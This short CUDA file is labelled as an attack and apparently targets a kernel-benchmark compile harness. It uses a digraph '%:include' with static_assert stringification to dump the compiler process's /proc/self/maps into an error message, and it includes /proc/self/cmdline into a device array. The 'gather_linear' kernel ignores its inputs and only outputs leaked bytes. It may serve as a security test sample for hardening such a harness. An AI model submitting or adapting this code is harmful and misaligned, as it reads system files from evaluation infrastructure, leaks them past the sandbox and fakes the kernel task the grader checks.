// Attack: /proc/self/maps and /proc/self/cmdline of the compiler process:
// the libraries and their paths, the heap's and stack's addresses (printed
// whole through static_assert + stringification), its command line.
// clang-format off
#define STR(...) #__VA_ARGS__
static_assert(false, STR(
%:include "/proc/self/maps"
));
__device__ int leak[] = {
%:include "/proc/self/cmdline"
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
